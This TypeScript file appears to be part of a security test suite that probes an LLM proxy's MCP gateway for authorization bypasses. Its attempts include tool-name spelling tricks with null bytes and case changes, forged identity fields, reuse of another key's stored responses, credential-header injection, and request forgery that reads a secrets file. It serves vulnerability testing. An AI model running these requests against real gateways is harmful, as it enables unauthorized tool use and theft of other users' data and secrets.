import { type Ask, type Attack, type Scene, type Try, post } from "./attack.ts";
import { identities } from "./body-fields.ts";
import { routes, plain } from "./bodies.ts";
import { any, passed, rpcOf, sent, toolAnswered, toolRanForModel } from "./sees.ts";

const accept = { Accept: "application/json, text/event-stream" };

const rpc = (
  scene: Scene,
  path: string,
  method: string,
  params: unknown,
  headers: Readonly<Record<string, string>> = {},
): Ask => post(scene, path, { jsonrpc: "2.0", id: 1, method, params }, { ...accept, ...headers });

const alias = (tool: string): string => tool.slice(0, tool.indexOf("-"));
const bare = (tool: string): string => tool.slice(tool.indexOf("-") + 1);

/** How a tool may be named to whoever compares names. */
const spellings: readonly (readonly [string, (tool: string) => string])[] = [
  ["its name", (tool) => tool],
  ["its bare name", bare],
  ["capitals", (tool) => tool.toUpperCase()],
  ["another separator", (tool) => tool.replace("-", "/")],
  ["two prefixes", (tool) => `${alias(tool)}-${tool}`],
  ["a blank", (tool) => ` ${tool}`],
  ["a zero", (tool) => `${tool}\u0000`],
];

const called = (
  name: string,
  asks: (scene: Scene, tool: string) => readonly Ask[],
  sees = toolAnswered,
): Try => ({
  name,
  asks: (scene) => (scene.foreignTool === undefined ? [] : asks(scene, scene.foreignTool)),
  sees,
});

const call = (scene: Scene, path: string, name: string, headers = {}): Ask =>
  rpc(scene, path, "tools/call", { name, arguments: {} }, headers);

const atMcp: readonly Try[] = [
  ...spellings.map(([name, spell]) =>
    called(`/mcp/: ${name}`, (scene, tool) => [call(scene, "/mcp/", spell(tool))]),
  ),
  called("/mcp/<alias>", (scene, tool) => [call(scene, `/mcp/${alias(tool)}`, tool)]),
  called("/mcp/nowhere", (scene, tool) => [call(scene, "/mcp/nowhere", tool)]),
  called("x-mcp-servers", (scene, tool) => [
    call(scene, "/mcp/", tool, { "x-mcp-servers": alias(tool) }),
  ]),
  called("a batch", (scene, tool) => [
    post(
      scene,
      "/mcp/",
      [
        { jsonrpc: "2.0", id: 1, method: "tools/list" },
        { jsonrpc: "2.0", id: 2, method: "tools/call", params: { name: tool, arguments: {} } },
      ],
      accept,
    ),
  ]),
  called("_meta with another's identity", (scene, tool) => [
    rpc(scene, "/mcp/", "tools/call", {
      name: tool,
      arguments: {},
      _meta: identities(scene),
      metadata: identities(scene),
    }),
  ]),
];

/** A tool outside the row in an answer to tools/list. */
const listed: Try = {
  name: "tools/list",
  asks: (scene) =>
    scene.foreignTool === undefined
      ? []
      : [
          rpc(scene, "/mcp/", "tools/list", {}),
          rpc(scene, `/mcp/${alias(scene.foreignTool)}`, "tools/list", {}),
        ],
  sees: ({ answers, scene }) =>
    answers.some(({ body }) => body.includes(`"${scene.foreignTool ?? ""}"`))
      ? `the list has ${scene.foreignTool ?? ""}`
      : undefined,
};

const offered = (scene: Scene, tool: string, more: object = {}, input?: string) => ({
  model: scene.model,
  input: input ?? `Call exactly ${tool} {}`,
  tools: [
    {
      type: "mcp",
      server_label: "attack",
      server_url: `litellm_proxy/mcp/${alias(tool)}`,
      require_approval: "never",
      ...more,
    },
  ],
});

const forModels: readonly Try[] = [
  called(
    "/v1/responses: a server outside the row",
    (scene, tool) => [post(scene, "/v1/responses", offered(scene, tool))],
    toolRanForModel,
  ),
  called(
    "/v1/responses: a tool that was not offered",
    (scene, tool) => [
      post(scene, "/v1/responses", offered(scene, tool, { server_url: "litellm_proxy" })),
    ],
    toolRanForModel,
  ),
  called(
    "/v1/responses: allowed_tools of the client's own",
    (scene, tool) => [
      post(scene, "/v1/responses", offered(scene, tool, { allowed_tools: [tool, bare(tool)] })),
    ],
    toolRanForModel,
  ),
  called(
    "/v1/responses: streamed",
    (scene, tool) => [post(scene, "/v1/responses", { ...offered(scene, tool), stream: true })],
    toolRanForModel,
  ),
  ...["metadata", "litellm_metadata", "proxy_server_request", "secret_fields"].map((field) =>
    called(
      `/v1/responses: another's identity in ${field}`,
      (scene, tool) => [
        post(scene, "/v1/responses", { ...offered(scene, tool), [field]: identities(scene) }),
      ],
      toolRanForModel,
    ),
  ),
  called(
    "/v1/chat/completions: a tool of type mcp",
    (scene, tool) => {
      const { tools, input } = offered(scene, tool);
      const messages = [{ role: "user", content: input }];
      return [post(scene, "/v1/chat/completions", { model: scene.model, messages, tools })];
    },
    any(toolRanForModel),
  ),
];

/** An answer that was kept for another key. */
const kept: readonly Try[] = routes.map((route) => ({
  name: `${route.path}: another key's previous_response_id`,
  asks: (scene) => {
    const { victim, mark } = scene;
    if (victim === undefined) return [];
    const theirs = { authorization: { Authorization: `Bearer ${victim.value}` } };
    const said = { model: victim.models[0] ?? scene.model, input: `remember ${mark}`, store: true };
    return [
      post(theirs, "/v1/responses", { ...said, user: "victim" }),
      post(scene, route.path, {
        ...plain(scene, route),
        previous_response_id: "resp_mock",
        conversation: "resp_mock",
      }),
    ];
  },
  sees: ({ answers, scene }) =>
    answers[1]?.status === 200 && answers[1].body.includes(`remember ${scene.mark}`)
      ? "the answer has what another key said"
      : undefined,
}));

const upstream: readonly Try[] = [
  ...["authorization", "x-forwarded-host", "url"].map((name): Try => ({
    ...called(
      `x-mcp-<alias outside the row>-${name}`,
      (scene, tool) => [
        rpc(scene, "/mcp/", "tools/list", {}, { [`x-mcp-${alias(tool)}-${name}`]: "attack" }),
      ],
      passed,
    ),
    sees: ({ answers }) =>
      answers.some(({ status, body }) => status === 200 && rpcOf(body)?.result !== undefined)
        ? "a credential for a server outside the row was taken"
        : undefined,
  })),
];

export const toolAttacks: readonly Attack[] = [
  { id: "tool-list", words: "tools outside the row in a list", tries: [listed] },
  { id: "tool-call", words: "a tool outside the row at /mcp/", tries: atMcp },
  { id: "tool-model", words: "a tool outside the row by way of a model", tries: forModels },
  { id: "foreign-credentials", words: "headers for a server outside the row", tries: upstream },
  { id: "kept-answers", words: "what another key said before", tries: kept },
  {
    id: "tool-server",
    words: "/mcp/ told to go elsewhere",
    tries: [
      {
        name: "an address in headers and parameters",
        asks: (scene) => [
          rpc(scene, "/mcp/", "tools/list", { server_url: scene.listener, url: scene.listener }),
          rpc(scene, "/mcp/", "initialize", {
            protocolVersion: "2025-06-18",
            capabilities: { roots: { listChanged: true }, sampling: {} },
            clientInfo: { name: scene.listener, version: "1" },
            server_url: scene.listener,
          }),
          rpc(scene, "/mcp/", "resources/read", { uri: scene.listener }),
          rpc(scene, "/mcp/", "resources/read", { uri: "file:///run/secrets/mcp-gateway.env" }),
          rpc(scene, "/mcp/", "prompts/get", { name: scene.listener }),
        ],
        sees: sent,
        listens: true,
      },
    ],
  },
];
